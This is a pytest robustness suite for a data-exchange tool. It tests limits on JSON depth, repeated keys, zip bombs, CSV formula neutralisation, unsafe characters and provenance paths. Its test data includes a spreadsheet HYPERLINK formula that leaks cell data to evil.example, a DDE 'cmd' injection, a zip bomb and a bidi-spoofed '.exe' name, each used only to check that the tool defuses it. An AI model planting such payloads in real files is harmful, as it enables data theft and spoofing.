"""Issue 13, robustness: one test (or a few) per item a hostile input or a killed run found.

Reading JSON (depth, repeated keys, memory), zips, schema/model agreement, exporters that write
nothing, the CSV writer, unsafe text, URLs and provenance paths. Signals and atomic writes are
in tests/test_robustness_signals.py.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import CliRunner
from conftest import valid_document

import pmae
from pmae.cli import cli
from pmae.default_plugins.csv_tables import read as csv_read
from pmae.default_plugins.csv_tables.cells import protect, unprotect
from pmae.exchange import export_bundle, import_file
from pmae.io import files
from pmae.io.bundles import bundle_to_data
from pmae.io.csv_writer import is_risky, neutralise, safe_writer
from pmae.io.files import DocumentError, parse_json, read_document
from pmae.io.json_shape import MAX_DEPTH
from pmae.io.pipeline import validate_document, validate_file
from pmae.plugins import hookimpl
from pmae.plugins.items import Exporter, ExportError
from pmae.sample import load_sample as sample_bundle


def _run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        result.output)
    return result.exit_code, result.output


def _write(path: Path, document: Any) -> Path:
    path.write_bytes(orjson.dumps(document))
    return path


# --- JSON nested to any depth ------------------------------------------------------------


@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 1_000, 5_000, 200_000])
def test_deep_nesting_is_a_located_error_at_any_depth(tmp_path: Path, depth: int) -> None:
    text = json.dumps(valid_document()).replace(
        '"associations": [', '"associations": [' + "[" * depth + "]" * depth + ",", 1)
    path = tmp_path / "deep.json"
    path.write_text(text)
    issue = validate_file(path).issues[0]
    assert issue.code == "too-deep"
    assert "more than 64 levels deep" in issue.message
    # Located: the path where the nesting runs away (orjson itself stops past 1,024 levels).
    assert issue.path.startswith("$.associations[0][0][0]") or issue.line == 1
    for command in (["validate", str(path)], ["export", str(path), "--to", "json",
                                              "-o", str(tmp_path / "out.json")],
                    ["import", "json", str(path), "-o", str(tmp_path / "in.json")]):
        code, output = _run(*command)
        assert code == 1 and "too-deep" in output and "Traceback" not in output


def test_depth_limit_is_exact_and_objects_count_too() -> None:
    assert parse_json(b"[" * MAX_DEPTH + b"]" * MAX_DEPTH) is not None
    with pytest.raises(DocumentError) as raised:
        parse_json(b'{"a":' * MAX_DEPTH + b"1" + b"}" * MAX_DEPTH)
    assert raised.value.issue.code == "too-deep"
    assert raised.value.issue.path == "$.a.a.a.a.a.a….a.a.a.a.a.a"


def test_deep_nesting_in_a_json_lines_bundle(tmp_path: Path) -> None:
    document = valid_document()
    envelope = {k: v for k, v in document.items() if not isinstance(v, list)}
    path = tmp_path / "deep.jsonl"
    path.write_bytes(orjson.dumps(envelope) + b"\n" + b'{"actors": '
                     + b"[" * 900 + b"]" * 900 + b"}\n")
    issue = validate_file(path).issues[0]
    assert (issue.code, issue.line) == ("too-deep", 2)


def test_a_plugin_importer_result_nested_deep_is_refused() -> None:
    document: Any = valid_document()
    deep: Any = []
    for _ in range(2_000):
        deep = [deep]
    document["associations"][0]["name"] = deep
    report = validate_document(document)
    assert not report.ok
    assert "Traceback" not in "".join(i.render() for i in report.issues)


# --- repeated keys -----------------------------------------------------------------------


def test_a_repeated_key_is_an_error_with_its_path() -> None:
    text = json.dumps(valid_document()).replace(
        '"name": "Les Amis du quartier"',
        '"name": "Les Amis du quartier", "name": "Autre nom"', 1).encode()
    with pytest.raises(DocumentError) as raised:
        parse_json(text, file="b.json")
    issue = raised.value.issue
    assert (issue.code, issue.path, issue.file) == ("duplicate-key", "$.associations[0].name",
                                                     "b.json")
    assert "'name' appears twice" in issue.message


@pytest.mark.parametrize("text", [
    b'{"a": "x:y", "b": {"c": "http://h:8/p"}, "d": ["::", {":": 1}]}',
    b'{"a": "\\u003a", "b": 1}',  # an escaped colon: the slow, exact path, no false alarm
    b'{"a:b": {"a": 1}, "c": []}',
])
def test_colons_in_strings_are_not_repeated_keys(text: bytes) -> None:
    assert isinstance(parse_json(text), dict)


def test_a_repeated_key_hidden_by_an_escaped_colon_is_still_found() -> None:
    with pytest.raises(DocumentError) as raised:
        parse_json(b'{"x": "\\u003a", "a": [{"k": 1, "k": 2}]}')
    assert raised.value.issue.path == "$.a[0].k"


def test_a_repeated_key_in_a_json_lines_record(tmp_path: Path) -> None:
    path = tmp_path / "b.jsonl"
    path.write_bytes(b'{"format_version": "1.0.0"}\n{"actors": {"id": "a", "id": "b"}}\n')
    with pytest.raises(DocumentError) as raised:
        read_document(path)
    assert (raised.value.issue.code, raised.value.issue.line) == ("duplicate-key", 2)


# --- out of memory -----------------------------------------------------------------------


@pytest.mark.parametrize("failure", [
    MemoryError(), orjson.JSONDecodeError("Not enough memory to allocate buffer for parsing",
                                          "", 0)])
def test_out_of_memory_says_what_happened_and_what_to_do(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, failure: Exception) -> None:
    def loads(data: bytes) -> Any:
        raise failure

    monkeypatch.setattr(files.orjson, "loads", loads)
    path = _write(tmp_path / "huge.json", [1, 2, 3])
    issue = validate_file(path).issues[0]
    assert issue.code == "too-large"
    assert "not enough memory" in issue.message
    assert "JSON Lines" in issue.render() and "line" not in issue.message


# --- zips --------------------------------------------------------------------------------


def _zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return path


def test_a_zip_bomb_is_refused_by_its_ratio(tmp_path: Path) -> None:
    bomb = _zip(tmp_path / "bomb.zip", {"bundle.csv": b"format_version\r\n" + b"1" * 50_000_000})
    assert bomb.stat().st_size < 100_000
    code, output = _run("import", "csv", str(bomb), "-o", str(tmp_path / "out.json"))
    assert code == 1
    assert "csv:zip-too-large" in output and "200× its compressed size" in output
    assert not (tmp_path / "out.json").exists()


def test_a_zip_is_refused_past_the_total_limit(tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_read, "MAX_INFLATED", 1_000)
    archive = _zip(tmp_path / "a.zip", {"bundle.csv": bytes(range(256)) * 3,
                                         "actors.csv": bytes(range(256)) * 3})
    result = csv_read.read_tables(archive, {})
    assert [i.code for i in result.issues] == ["csv:zip-too-large"]
    assert "limit for a whole archive" in result.issues[0].message


def test_an_ordinary_zip_still_imports(tmp_path: Path) -> None:
    out = tmp_path / "b.zip"
    export_bundle(sample_bundle(), "csv-zip", out, audience="all")
    report = import_file("csv", out)
    assert report.ok, report.issues


# --- schema and model agree ----------------------------------------------------------------


def test_an_integer_written_2_0_is_valid_and_the_integer_2() -> None:
    document = valid_document()
    document["associations"][0]["headcount"] = 3.0
    report = validate_document(document)
    assert report.ok, report.issues
    assert report.bundle is not None and report.bundle.associations[0].headcount == 3


@pytest.mark.parametrize(("field", "value", "code"), [
    ("generated_at", "0000-01-01T00:00:00Z", "invalid-datetime"),
    ("needs.0.date", "0000-02-01", "invalid-date"),
])
def test_the_year_0000_is_refused_by_the_schema(field: str, value: str, code: str) -> None:
    document: Any = valid_document()
    *parents, last = field.split(".")
    target = document
    for part in parents:
        target = target[int(part)] if part.isdigit() else target[part]
    target[last] = value
    report = validate_document(document)
    assert [i.code for i in report.issues if i.severity == "error"] == [code]
    assert not any(i.code == "structure-error" for i in report.issues)


# --- an exporter that writes nothing --------------------------------------------------------


@pytest.mark.parametrize("target", ["file", "directory"])
def test_an_exporter_that_writes_nothing_fails_and_the_previous_output_stays(
        tmp_path: Path, target: str) -> None:
    def nothing(bundle: Any, where: Any, context: Any) -> None:
        return None

    class Silent:
        @hookimpl
        def pmae_register_exporters(self, register: Callable[[Exporter], None]) -> None:
            register(Exporter(name="silent", title="Silent", export=nothing,
                              target=target))  # type: ignore[arg-type]

    session = pmae.make_session(load=[], plugins=[Silent()])
    out = tmp_path / "out"
    if target == "file":
        out.write_text("previous")
    else:
        out.mkdir()
        (out / "kept.txt").write_text("previous")
    with pytest.raises(ExportError, match="wrote nothing"):
        export_bundle(sample_bundle(), "silent", out, session=session, overwrite=True)
    if target == "file":
        assert out.read_text() == "previous"
    else:
        assert (out / "kept.txt").read_text() == "previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


# --- one CSV writer, formulas neutralised ---------------------------------------------------


@pytest.mark.parametrize(("text", "written"), [
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    (" =1+1", "' =1+1"), ("\u200b=1+1", "'\u200b=1+1"), ("\ufeff=1", "'\ufeff=1"),
    ("\uff1d1+1", "'\uff1d1+1"), ("\u00a0=1", "'\u00a0=1"),
    ("-3", "-3"), ("-2,5", "-2,5"), ("1e-05", "1e-05"), ("abc", "abc"), ("", ""),
])
def test_the_writer_neutralises_formulas(text: str, written: str) -> None:
    assert neutralise(text) == written
    buffer = io.StringIO()
    safe_writer(buffer).writerow([text, 3, None])
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0] == written


@pytest.mark.parametrize("text", [" =1+1", "\u200b=1", "\uff1d1", "'\uff1d1", "=x", "-3",
                                  "' abc", "'abc", "\u00a0x"])
def test_csv_tables_round_trip_a_neutralised_cell(text: str) -> None:
    cell = protect(text)
    assert not is_risky(cell) or cell[0] == "'"
    assert unprotect(cell) == text


def test_csv_tables_export_and_import_hostile_texts(tmp_path: Path) -> None:
    document = valid_document()
    names = [" =HYPERLINK(\"http://x\")", "\uff1dcmd|' /C calc'!A0", "\u200b+33 6"]
    for actor, name in zip(document["actors"], names, strict=False):
        actor["name"] = name
    bundle = validate_document(document).bundle
    assert bundle is not None
    export_bundle(bundle, "csv", tmp_path / "tables", audience="all")
    text = (tmp_path / "tables" / "actors.csv").read_text(encoding="utf-8")
    assert all(f",'{name[:3]}" in text or f",\"'{name[:3]}" in text for name in names[:2])
    report = import_file("csv", tmp_path / "tables")
    assert report.bundle is not None
    assert [a.name for a in report.bundle.actors] == names[:2]


def _hostile_sample(tmp_path: Path) -> Path:
    data: Any = bundle_to_data(sample_bundle())
    for actor in data["actors"]:
        if actor["id"] == "pmae-ra:dla-69":
            actor["name"] = '=HYPERLINK("http://evil.example/?d="&A1,"DLA")'
            actor["phone"] = "+33 4 65 71 19 47"
    return _write(tmp_path / "hostile.json", data)


def test_invitations_csv_neutralises_formulas(tmp_path: Path) -> None:
    path = _hostile_sample(tmp_path)
    code, output = _run("programme", "invitations", str(path), "--meeting",
                        "pmae-ra:rencontre-2025-3", "--territory", "dep:69", "--format", "csv",
                        "--audience", "network")
    assert code == 0, output
    row = next(r for r in csv.reader(io.StringIO(output)) if r and r[0] == "pmae-ra:dla-69")
    assert row[1].startswith("'=HYPERLINK(") and row[5] == "'+33 4 65 71 19 47"


def test_attendance_csv_neutralises_formulas(tmp_path: Path) -> None:
    path = _hostile_sample(tmp_path)
    code, output = _run("attendance", str(path), "--format", "csv")
    assert code == 0, output
    names = [r[1] for r in csv.reader(io.StringIO(output)) if r and r[0] == "pmae-ra:dla-69"]
    assert names and names[0].startswith("'=HYPERLINK(")


def test_no_module_writes_csv_around_the_shared_writer() -> None:
    source = Path(pmae.__file__).parent
    offenders = [str(p.relative_to(source)) for p in source.rglob("*.py")
                 if ("csv.writer(" in p.read_text(encoding="utf-8")
                     or "csv.DictWriter(" in p.read_text(encoding="utf-8"))
                 and p.name != "csv_writer.py"]
    assert offenders == []


# --- text, URLs, provenance -----------------------------------------------------------------


@pytest.mark.parametrize(("text", "code", "shown"), [
    ("a\x00b", "control-character", "U+0000 NUL"),
    ("a\x1bb", "control-character", "U+001B"),
    ("a\x85b", "control-character", "U+0085"),
    ("invoice\u202efdp.exe", "bidi-override", "U+202E RIGHT-TO-LEFT OVERRIDE"),
    ("x\u2066y", "bidi-override", "U+2066 LEFT-TO-RIGHT ISOLATE"),
])
def test_unsafe_characters_in_texts_are_errors(text: str, code: str, shown: str) -> None:
    document = valid_document()
    document["offers"][0]["title"] = text
    report = validate_document(document)
    assert [(i.code, i.path) for i in report.issues] == [(code, "$.offers[0].title")]
    assert shown in report.issues[0].message


def test_tabs_line_breaks_and_accents_are_fine() -> None:
    document = valid_document()
    document["offers"][0]["title"] = "Réunion\td'équipe\n« RH » \\b \\f \u200f"
    assert validate_document(document).ok


@pytest.mark.parametrize("url", ["http://", "https://", "http:///path", "http://:80/",
                                 "http://?q", "http://#x"])
def test_a_url_needs_a_host(url: str) -> None:
    document = valid_document()
    document["offers"][0]["url"] = url
    assert [(i.code, i.path) for i in validate_document(document).issues] == [
        ("invalid-format", "$.offers[0].url")]


def test_network_exports_keep_only_the_names_of_provenance_files(tmp_path: Path) -> None:
    one = _write(tmp_path / "one.json", valid_document())
    other = valid_document()
    other["source"] = {"slug": "autre", "name": "Autre"}
    other = json.loads(json.dumps(other).replace("lma-ra:", "autre:"))
    two = _write(tmp_path / "two.json", other)
    merged = tmp_path / "merged.json"
    code, output = _run("merge", str(one.resolve()), str(two.resolve()), "-o", str(merged))
    assert code == 0, output
    assert str(tmp_path) in merged.read_text()
    for audience, expected in (("network", ["one.json", "two.json"]),
                               ("recipient:autre", ["one.json", "two.json"]),
                               ("public", [None, None]),
                               ("all", [str(one.resolve()), str(two.resolve())])):
        out = tmp_path / f"{audience.replace(':', '-')}.json"
        code, output = _run("export", str(merged), "--to", "json", "--audience", audience,
                            "-o", str(out))
        assert code == 0, output
        provenance = json.loads(out.read_text()).get("provenance", [])
        assert [p.get("file") for p in provenance] == expected, audience


def test_an_integer_past_64_bits_is_not_taken_for_deep_nesting() -> None:
    document = valid_document()
    document["associations"][0]["headcount"] = 10**30
    assert [(i.code, i.path) for i in validate_document(document).issues] == [
        ("out-of-range", "$.associations[0].headcount")]
